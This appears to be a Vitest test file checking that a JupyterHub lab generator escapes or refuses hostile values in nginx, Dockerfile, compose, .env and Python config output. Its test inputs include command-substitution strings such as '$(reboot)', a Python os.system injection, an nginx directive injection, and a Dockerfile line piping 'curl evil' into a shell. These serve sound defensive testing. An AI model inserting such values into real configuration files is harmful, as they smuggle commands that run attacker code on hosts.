import {describe, expect, it} from 'vitest';
import {parse} from 'yaml';
import {composeScalar, dotenvJson, word} from '../../../source/templates/escape.js';
import {labFiles} from '../../../source/templates/lab-files.js';
import {RenderError, renderTemplate} from '../../../source/templates/render.js';
import {hubConfig} from './hub-config.js';
import {configs, inputsFor} from './labs.js';

/** Values an attacker (or a typo) could put in lab.yaml, if the schema ever let them through. */
const hostile = [
	'a"b',
	"a'b",
	'line\nbreak: true',
	'${HOME}',
	'$(reboot)',
	'`id`',
	'a\\"; import os; os.system("id") #',
	'}} {{domain',
	'x; return 200 owned;',
	'\u0000nul',
];

describe('escaping', () => {
	it.each(hostile)('compose: %j comes back from YAML exactly, with $ escaped for compose', value => {
		const yaml = `key: ${composeScalar(value)}\n`;
		expect(parse(yaml).key.replaceAll('$$', '$')).toBe(value);
		expect(yaml.split('\n')).toHaveLength(2);
	});

	it.each(hostile)('nginx and Dockerfile: %j is refused', value => {
		expect(() => word(value)).toThrow(/is not a plain word/);
	});

	it.each(hostile)('.env: %j stays one line of base64', value => {
		const line = dotenvJson('LABBOX_SECRETS', {clientSecret: value});
		expect(line).toMatch(/^LABBOX_SECRETS=[A-Za-z0-9+/=]+$/);
		expect(JSON.parse(Buffer.from(line.slice('LABBOX_SECRETS='.length), 'base64').toString('utf8'))).toEqual({clientSecret: value});
	});
});

describe('rendering hostile values', () => {
	it('refuses a hostile domain in nginx, naming the file and line', () => {
		const config = {...configs.github!, domain: 'lab.example.org; return 200 owned'};
		expect(() => labFiles(inputsFor(config))).toThrow(RenderError);
		expect(() => labFiles(inputsFor(config))).toThrow(
			/^nginx\/lab\.conf:32: \{\{domain\}\}: .* is not a plain word.*\n {2}32 \| server_name \{\{domain\}\};/,
		);
	});

	it('refuses a hostile hub base in the Dockerfile', () => {
		const config = {...configs.github!, 'images.hub': 'debian\nRUN curl evil | sh'};
		expect(() => labFiles(inputsFor(config))).toThrow(/^jupyterhub\/Dockerfile:2: \{\{hubBase\}\}/);
	});

	it('names an unknown placeholder with its line', () => {
		expect(() => renderTemplate('compose.yaml', 'a: 1\nb: {{nope}}\n', {})).toThrow(/^compose\.yaml:2: unknown placeholder \{\{nope\}\}/);
	});

	it('keeps every hostile value a plain string in settings.json and compose.yaml', () => {
		for (const value of hostile) {
			const config = {
				...configs.oidc!,
				'auth.clientId': value,
				'auth.issuer': value,
				'images.singleuser': value,
				'lab.root': `/srv/${value}`,
				'images.nginx': value,
				'images.hub': value,
			};
			const files = labFiles(inputsFor(config));
			const settings = JSON.parse(files.find(file => file.path === 'jupyterhub/settings.json')!.content);
			expect([settings.auth.clientId, settings.auth.issuer, settings.images.singleuser]).toEqual([value, value, value]);
			const compose = parse(files.find(file => file.path === 'compose.yaml')!.content);
			expect(compose.services.nginx.image.replaceAll('$$', '$')).toBe(value);
			expect(compose.services.hub.image.replaceAll('$$', '$')).toBe(value);
			expect(Object.keys(compose.services)).toEqual(['nginx', 'hub']);
		}
	});

	// The real proof for Python: run the hub's configuration with hostile settings and read back what it set.
	it('hands hostile settings to JupyterHub as plain values (python3 runs the real config)', async () => {
		const result = await hubConfig({
			...configs.gitlab!,
			'auth.clientId': hostile[6],
			'auth.gitlabUrl': hostile[2],
			'auth.allowedUsers': hostile,
			'auth.admins': [hostile[3]],
		});
		expect(result.OAuthenticator.client_id).toBe(hostile[6]);
		expect(result.OAuthenticator.client_secret).toBe('shh-very-secret');
		expect(result.GitLabOAuthenticator.gitlab_url).toBe(hostile[2]);
		expect(result.Authenticator.allowed_users).toEqual([...hostile].sort());
		expect(result.Authenticator.admin_users).toEqual([hostile[3]]);
		expect(result.JupyterHub.authenticator_class).toBe('oauthenticator.gitlab.GitLabOAuthenticator');
		expect(result.OAuthenticator.http_request_kwargs).toEqual({ca_certs: '/etc/labbox/login-ca.pem'});
		expect(result.GenericOAuthenticator).toBeUndefined();
	});
});
